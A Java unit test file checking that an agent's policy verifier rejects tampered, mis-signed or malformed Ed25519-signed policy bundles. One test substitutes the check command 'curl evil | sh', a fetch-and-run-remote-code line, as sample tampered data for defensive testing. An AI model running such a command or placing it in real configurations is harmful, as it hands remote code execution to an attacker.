package io.aami.agent.pki;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.aami.common.pki.Keys;
import io.aami.common.pki.PkiException;
import io.aami.common.policy.PolicyCanonicalForm;
import io.aami.contract.policy.CheckSpec;
import io.aami.contract.policy.PolicyBundle;
import io.aami.server.pki.PolicySigner;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Instant;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The server's signer and the agent's verifier, end to end. */
class PolicyVerifierTest {
    static final SecureRandom RANDOM = new SecureRandom();

    @TempDir
    Path dir;
    PolicySigner signer;
    PolicyVerifier verifier;

    @BeforeEach
    void setUp() {
        signer = PolicySigner.loadOrCreate(dir.resolve("pki"), RANDOM);
        verifier = new PolicyVerifier(signer.publicKeyBase64());
    }

    static PolicyBundle bundle() {
        CheckSpec check = new CheckSpec(UUID.randomUUID(), "disk", "sh", "df -h", "abc", List.of("-x"),
                Map.of("LANG", "C"), 60, 10, Map.of("team", "ops"));
        return new PolicyBundle(5, UUID.randomUUID(), Instant.now(), Instant.now().plusSeconds(3600), List.of(check),
                List.of(), null, null);
    }

    @Test
    void aSignedBundleVerifiesAndNamesThePinnedKey() {
        PolicyBundle signed = signer.sign(bundle());

        assertThat(verifier.keyId()).isEqualTo(signer.keyId());
        assertThat(verifier.verify(signed)).isTrue();
        assertThat(verifier.verify(PolicyCanonicalForm.canonical(signed), signed.signature())).isTrue();
    }

    @Test
    void anyChangedByteOfTheCanonicalFormFails() {
        byte[] canonical = PolicyCanonicalForm.canonical(signer.sign(bundle()));
        String signature = signer.sign(canonical);
        for (int i = 0; i < canonical.length; i++) {
            byte[] tampered = canonical.clone();
            tampered[i] ^= 0x01;
            assertThat(verifier.verify(tampered, signature)).as("byte %d", i).isFalse();
        }
        assertThat(verifier.verify(Arrays.copyOf(canonical, canonical.length + 1), signature)).isFalse();
    }

    @Test
    void anyChangedBitOfTheSignatureFails() {
        byte[] canonical = PolicyCanonicalForm.canonical(bundle());
        byte[] sig = Base64.getDecoder().decode(signer.sign(canonical));
        for (int i = 0; i < sig.length * 8; i++) {
            byte[] tampered = sig.clone();
            tampered[i / 8] ^= (byte) (1 << (i % 8));
            assertThat(verifier.verify(canonical, Base64.getEncoder().encodeToString(tampered))).as("bit %d", i).isFalse();
        }
    }

    @Test
    void aTamperedBundleFails() {
        PolicyBundle signed = signer.sign(bundle());
        CheckSpec c = signed.checks().get(0);
        CheckSpec evil = new CheckSpec(c.checkId(), c.name(), c.interpreter(), "curl evil | sh", "recomputed", c.args(),
                c.env(), c.intervalSeconds(), c.timeoutSeconds(), c.labels());

        assertThat(verifier.verify(new PolicyBundle(signed.version(), signed.targetId(), signed.generatedAt(),
                signed.expiresAt(), List.of(evil), signed.probes(), signed.keyId(), signed.signature()))).isFalse();
        assertThat(verifier.verify(new PolicyBundle(signed.version() + 1, signed.targetId(), signed.generatedAt(),
                signed.expiresAt(), signed.checks(), signed.probes(), signed.keyId(), signed.signature()))).isFalse();
        assertThat(verifier.verify(new PolicyBundle(signed.version(), signed.targetId(), signed.generatedAt(),
                signed.expiresAt(), signed.checks(), signed.probes(), "0000000000000000", signed.signature()))).isFalse();
    }

    @Test
    void anotherKeysSignatureFails() {
        PolicySigner other = PolicySigner.loadOrCreate(dir.resolve("other"), RANDOM);
        PolicyBundle signedByOther = other.sign(bundle());
        byte[] canonical = PolicyCanonicalForm.canonical(signedByOther);

        assertThat(verifier.verify(signedByOther)).isFalse();
        assertThat(verifier.verify(canonical, signedByOther.signature())).isFalse();
        assertThat(new PolicyVerifier(other.publicKeyBase64()).verify(signedByOther)).isTrue();
    }

    @Test
    void garbageIsFalseNotAnException() {
        byte[] canonical = PolicyCanonicalForm.canonical(bundle());
        String zeros = Base64.getEncoder().encodeToString(new byte[64]);
        for (String garbage : new String[] {null, "", "!!!not base64!!!", "AAAA", zeros, zeros + zeros, "A"}) {
            assertThat(verifier.verify(canonical, garbage)).as(String.valueOf(garbage)).isFalse();
        }
        assertThat(verifier.verify(null, signer.sign(canonical))).isFalse();
        assertThat(verifier.verify((PolicyBundle) null)).isFalse();
    }

    @Test
    void thePinnedKeyMustBeEd25519() {
        String ec = Base64.getEncoder().encodeToString(Keys.generateEcP256(RANDOM).getPublic().getEncoded());
        assertThatThrownBy(() -> new PolicyVerifier(ec)).isInstanceOf(PkiException.class).hasMessageContaining("Ed25519");
        assertThatThrownBy(() -> new PolicyVerifier("%%%")).isInstanceOf(PkiException.class);
        assertThatThrownBy(() -> new PolicyVerifier(null)).isInstanceOf(PkiException.class);
    }
}
